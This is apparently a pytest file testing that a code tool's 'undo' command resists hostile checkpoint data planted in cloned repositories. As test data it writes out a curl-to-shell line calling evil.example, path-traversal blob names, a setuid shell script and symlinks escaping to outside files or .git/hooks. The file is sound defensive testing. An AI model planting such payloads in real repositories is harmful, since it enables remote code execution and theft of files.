"""`codegen undo` in a cloned repository: planted checkpoint state restores nothing, a genuine run still
undoes byte for byte, and even a sealed manifest cannot name a path for a blob, swap a blob's content,
set a setuid bit or create a symlink pointing outside (issue 23)."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import shutil
import stat
from pathlib import Path
from typing import Callable

import pytest
from pygls.exceptions import JsonRpcException

from codegen_server.store import RunStore
from codegen_server.store.checkpoints import CheckpointStore
from tests.conftest import model_env
from tests.support.cli import codegen, env_for
from tests.support.fix_projects import CART, FIX_CART, fix_model, make_python_project
from tests.support.hostile import Outside, hostile_clone
from tests.support.sealed import reseal_manifest

NOT_OURS = "was not written by codegen for this user on this machine"


def _blob(folder: Path, data: bytes) -> str:
    digest = hashlib.sha256(data).hexdigest()
    (folder / digest[:2]).mkdir(parents=True, exist_ok=True)
    (folder / digest[:2] / digest[2:]).write_bytes(data)
    return digest


def _plant_run(repo: Path, run_id: str, files: dict, blobs: tuple[bytes, ...] = ()) -> None:
    """A run folder as an attacker writes one: run.json and a "start" manifest, no seal (none can be made)."""
    run = repo / ".codegen" / "runs" / run_id
    (run / "checkpoints").mkdir(parents=True)
    (run / "run.json").write_text(json.dumps({"id": run_id, "kind": "fix", "status": "green",
                                              "created": "2999-12-31T23:59:59+0000"}))
    for data in blobs:
        _blob(run / "checkpoints" / "objects", data)
    (run / "checkpoints" / "0000.json").write_text(json.dumps(
        {"label": "start", "created": 0, "files": files, "skipped": []}))


#: Each planted run and what it would do: copy a file from outside in, install a setuid program,
#: link out of the workspace; the last sorts first in any picker (a far-future id).
TOOL = b"#!/bin/sh\necho owned\n"
PLANTED = {
    "20260101-000000-0000a1": lambda outside: ({"stolen.txt": {"sha256": ".." + str(outside / "secret.txt"),
                                                              "mode": 0o644}}, ()),
    "20260101-000000-0000a2": lambda outside: ({"tool": {"sha256": hashlib.sha256(TOOL).hexdigest(),
                                                        "mode": 0o104755}}, (TOOL,)),
    "20260101-000000-0000a3": lambda outside: ({"secret-link": {"link": str(outside / "secret.txt")}}, ()),
    "29991231-235959-ffffff": lambda outside: ({"stolen.txt": {"sha256": ".." + str(outside / "secret.txt"),
                                                              "mode": 0o644}}, ()),
}
PLANTED_NAMES = ("stolen.txt", "tool", "secret-link")


def _project_with_planted_runs(repo: Path, outside: Path) -> None:
    make_python_project(repo)
    for run_id, attack in PLANTED.items():
        files, blobs = attack(outside)
        _plant_run(repo, run_id, files, blobs)


def _workspace(clone: Path) -> dict[str, bytes]:
    """Every file's bytes (links by their target), outside .git/, .codegen/ and caches."""
    skip = {".git", ".codegen", "__pycache__", ".pytest_cache"}
    found = {}
    for directory, folders, files in os.walk(clone):
        folders[:] = [f for f in folders if f not in skip]
        for name in files + [f for f in folders if os.path.islink(os.path.join(directory, f))]:
            path = Path(directory, name)
            rel = path.relative_to(clone).as_posix()
            found[rel] = b"-> " + os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
    return found


def _genuine_fix(clone: Path, scripted_model) -> tuple[str, dict[str, bytes]]:
    """`codegen fix` in the clone: a run this user's codegen made. Returns its id and the files before it."""
    start = _workspace(clone)
    model = scripted_model(fix_model([FIX_CART]))
    done = codegen("fix", "--root", str(clone), env=env_for(model.base_url))
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout.split("codegen undo ")[1].split(")")[0], start


def _genuine_run(clone: Path) -> tuple[str, dict[str, bytes]]:
    """A run made by codegen's own store, as `codegen fix` makes one (quicker than running the tests):
    "start", then the bug fixed as "iteration 1". Returns its id and the files at the start."""
    start = _workspace(clone)
    run = asyncio.run(RunStore(clone).create("fix"))
    checkpoints = CheckpointStore(clone, run.dir)
    checkpoints.save("start")
    (clone / "shop/cart.py").write_text(CART.replace("sum(prices[1:])", "sum(prices)"))
    checkpoints.save("iteration 1")
    asyncio.run(run.update_meta(status="green"))
    return run.id, start


def _edit_manifest(clone: Path, run_id: str, checkpoint_id: str, edit: Callable[[dict], None]) -> None:
    """Change a manifest and seal it again: what a sealed manifest holds is checked all the same."""
    store = CheckpointStore(clone, clone / ".codegen" / "runs" / run_id)
    path = store.dir / f"{checkpoint_id}.json"
    body = json.loads(path.read_text())
    edit(body)
    path.write_text(json.dumps(body))
    reseal_manifest(store, checkpoint_id)


def _undo(clone: Path, run_id: str):
    return codegen("undo", run_id, "--root", str(clone), env=env_for(None))


def test_planted_runs_restore_nothing_and_a_genuine_run_still_undoes(tmp_path, scripted_model):
    clone, outside = hostile_clone(tmp_path, _project_with_planted_runs)
    run_id, start = _genuine_fix(clone, scripted_model)
    fixed = _workspace(clone)
    assert fixed != start

    for planted in PLANTED:
        undone = _undo(clone, planted)
        assert undone.returncode == 1, (planted, undone.stderr)
        assert "Traceback" not in undone.stderr
        # The error names the file that is not codegen's: the run's run.json.
        error = undone.stderr.strip().splitlines()[-1]
        assert error.startswith(f"codegen: run {planted} cannot be used"), (planted, undone.stderr)
        assert f"{planted}/run.json" in error and NOT_OURS in error, (planted, undone.stderr)
        assert _workspace(clone) == fixed, planted
        assert not any(os.path.lexists(clone / name) for name in PLANTED_NAMES), planted
    assert outside.changes() == []

    undone = _undo(clone, run_id)
    assert undone.returncode == 0 and "restored start" in undone.stderr, undone.stderr
    assert _workspace(clone) == start
    assert outside.changes() == []


def test_an_unsealed_manifest_in_a_genuine_run_is_ignored_and_named(tmp_path):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, _ = _genuine_run(clone)
    checkpoints = clone / ".codegen" / "runs" / run_id / "checkpoints"
    # The "start" manifest replaced by one with no seal: harmless-looking, with a blob that matches.
    payload = b"planted = True\n"
    digest = _blob(checkpoints / "objects", payload)
    genuine = json.loads((checkpoints / "0000.json").read_text())
    files = {**genuine["files"], "planted.py": {"sha256": digest, "mode": 0o644}}
    (checkpoints / "0000.json").write_text(json.dumps({k: v for k, v in genuine.items() if k != "seal"}
                                                      | {"files": files}))
    before = _workspace(clone)

    undone = _undo(clone, run_id)
    assert undone.returncode == 1 and "Traceback" not in undone.stderr
    assert f"{checkpoints / '0000.json'}" in undone.stderr and NOT_OURS in undone.stderr, undone.stderr
    assert not (clone / "planted.py").exists() and _workspace(clone) == before
    assert outside.changes() == []


def test_a_manifest_sealed_for_another_checkpoint_is_not_taken_for_it(tmp_path):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, _ = _genuine_run(clone)
    checkpoints = clone / ".codegen" / "runs" / run_id / "checkpoints"
    # Iteration 1's sealed manifest, relabelled "start" by copying it over 0000.json.
    (checkpoints / "0000.json").write_text((checkpoints / "0001.json").read_text().replace(
        '"label": "iteration 1"', '"label": "start"'))
    before = _workspace(clone)
    undone = _undo(clone, run_id)
    assert undone.returncode == 1 and "0000.json" in undone.stderr and "Traceback" not in undone.stderr
    assert _workspace(clone) == before and outside.changes() == []


def test_a_sealed_manifest_naming_a_path_for_a_blob_copies_nothing_in(tmp_path):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, _ = _genuine_run(clone)
    secret = outside.folder / "secret.txt"

    def steal(body: dict) -> None:
        body["files"]["shop/cart.py"]["sha256"] = ".." + str(secret)

    _edit_manifest(clone, run_id, "0000", steal)
    before = _workspace(clone)
    undone = _undo(clone, run_id)
    assert undone.returncode == 1 and "Traceback" not in undone.stderr
    assert "0000.json" in undone.stderr and "is not a SHA-256 digest" in undone.stderr, undone.stderr
    assert _workspace(clone) == before and b"TOP-SECRET" not in (clone / "shop/cart.py").read_bytes()
    assert outside.changes() == []


@pytest.mark.parametrize("damage, said", [("swapped", "does not match its digest"), ("missing", "data missing")])
def test_a_swapped_blob_refuses_the_restore_before_anything_is_written(tmp_path, damage, said):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, _ = _genuine_run(clone)
    digest = hashlib.sha256(CART.encode()).hexdigest()
    blob = clone / ".codegen" / "objects" / digest[:2] / digest[2:]  # every run's blobs, shared
    blob.chmod(0o644)
    if damage == "swapped":
        blob.write_text("import os\nos.system('curl evil.example | sh')\n")
    else:  # a restore that cannot finish must not start
        blob.unlink()
    # A restore would remove this file and write conftest.py back before it reached shop/cart.py.
    (clone / "a_new_module.py").write_text("new = 1\n")
    (clone / "conftest.py").write_text("# changed since\n")
    before = _workspace(clone)

    undone = _undo(clone, run_id)
    assert undone.returncode == 1 and "Traceback" not in undone.stderr
    assert "shop/cart.py" in undone.stderr and said in undone.stderr, undone.stderr
    assert _workspace(clone) == before
    assert outside.changes() == []


def test_a_setuid_mode_in_a_sealed_manifest_restores_permission_bits_only(tmp_path):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, start = _genuine_run(clone)

    def setuid(body: dict) -> None:
        body["files"]["shop/cart.py"]["mode"] = 0o104755

    _edit_manifest(clone, run_id, "0000", setuid)
    undone = _undo(clone, run_id)
    assert undone.returncode == 0, undone.stderr
    assert (clone / "shop/cart.py").read_bytes() == start["shop/cart.py"]
    assert stat.S_IMODE((clone / "shop/cart.py").stat().st_mode) == 0o755
    assert outside.changes() == []


def _links(outside: Outside) -> Callable[[dict], None]:
    def add(body: dict) -> None:
        body["files"].update({
            "secret-link": {"link": "../outside/secret.txt"},
            "absolute-link": {"link": str(outside.folder / "secret.txt")},
            "shop/notes": {"link": "../../outside/notes"},
            "shop/sneaky": {"link": "x/../../../outside"},
            "git-hooks": {"link": ".git/hooks"},
            "cart-link.py": {"link": "shop/cart.py"},   # inside: restored
            "shop/up.py": {"link": "../conftest.py"},   # inside: restored
        })
    return add


ESCAPING = ("secret-link", "absolute-link", "shop/notes", "shop/sneaky", "git-hooks")


def test_a_link_out_of_the_workspace_is_not_created_and_the_undo_says_so(tmp_path):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, start = _genuine_run(clone)
    _edit_manifest(clone, run_id, "0000", _links(outside))

    undone = _undo(clone, run_id)
    assert undone.returncode == 0, undone.stderr
    for link in ESCAPING:
        assert not os.path.lexists(clone / link), link
        assert f"not restored: {link}, a symlink pointing outside the workspace" in undone.stderr, undone.stderr
    assert os.readlink(clone / "cart-link.py") == "shop/cart.py"
    assert os.readlink(clone / "shop/up.py") == "../conftest.py"
    assert (clone / "shop/cart.py").read_bytes() == start["shop/cart.py"]
    assert outside.changes() == []


async def test_the_daemon_reports_links_it_did_not_create(tmp_path, scripted_model, editor_factory):
    clone, outside = hostile_clone(tmp_path, _project_with_planted_runs)
    run_id, _ = await asyncio.to_thread(_genuine_run, clone)  # it runs its own event loop
    _edit_manifest(clone, run_id, "0000", _links(outside))
    editor = await editor_factory(clone, env=model_env(scripted_model([])))

    result = await editor.execute("codegen.undo", {"runId": run_id})
    assert sorted(result["skippedLinks"]) == sorted(ESCAPING)
    assert not any(os.path.lexists(clone / link) for link in ESCAPING)
    for planted in PLANTED:  # and a planted run is refused over LSP as on the command line
        with pytest.raises(JsonRpcException) as refused:
            await editor.execute("codegen.undo", {"runId": planted})
        assert NOT_OURS in str(refused.value) and f"{planted}/run.json" in str(refused.value), refused.value
    assert not any(os.path.lexists(clone / name) for name in PLANTED_NAMES)
    assert outside.changes() == []


@pytest.mark.parametrize("own_too", [False, True])
def test_a_symlinked_blob_folder_gets_nothing_written_through_it(tmp_path, own_too):
    clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
    run_id, start = _genuine_run(clone)
    # The state an undo checkpoints first holds this new file; its blob's shared folder now leads
    # outside (and, with own_too, so does the run's own folder, where blobs go when the shared one can't).
    new = b"written since the run\n"
    (clone / "notes.txt").write_bytes(new)
    digest = hashlib.sha256(new).hexdigest()
    folders = [clone / ".codegen" / "objects" / digest[:2]]
    if own_too:
        folders.append(clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2])
    for number, folder in enumerate(folders):
        if folder.exists():
            shutil.rmtree(folder)
        folder.parent.mkdir(parents=True, exist_ok=True)
        (outside.folder / f"notes{number}").mkdir()
        os.symlink(outside.folder / f"notes{number}", folder)
    outside.snapshot()  # with the folders the links lead to: a blob written through one shows
    before = _workspace(clone)

    undone = _undo(clone, run_id)
    assert "Traceback" not in undone.stderr, undone.stderr
    assert all(f"{folder}: is a symbolic link" in undone.stderr for folder in folders), undone.stderr
    assert outside.changes() == []
    if own_too:  # nowhere to keep the state before the undo: nothing is undone
        assert undone.returncode == 1 and _workspace(clone) == before
    else:  # the run's own folder keeps that blob, and the undo goes through (and can be undone)
        assert undone.returncode == 0 and _workspace(clone) == start, undone.stderr
        assert (clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2] / digest[2:]).read_bytes() == new


def test_a_planted_shared_blob_is_never_taken_for_the_file_it_is_named_after(tmp_path):
    # The clone ships a blob under the digest of one of its own files, holding something else: a
    # checkpoint that took it on trust would put that back on undo.
    def plant(repo: Path, _outside: Path) -> None:
        make_python_project(repo)
        digest = hashlib.sha256((repo / "shop/cart.py").read_bytes()).hexdigest()
        folder = repo / ".codegen" / "objects" / digest[:2]
        folder.mkdir(parents=True)
        (folder / digest[2:]).write_text("import os\nos.system('curl evil.example | sh')\n")

    clone, outside = hostile_clone(tmp_path, plant)
    run_id, start = _genuine_run(clone)
    undone = _undo(clone, run_id)
    assert undone.returncode == 0, undone.stderr
    assert _workspace(clone) == start and b"evil" not in (clone / "shop/cart.py").read_bytes()
    assert outside.changes() == []
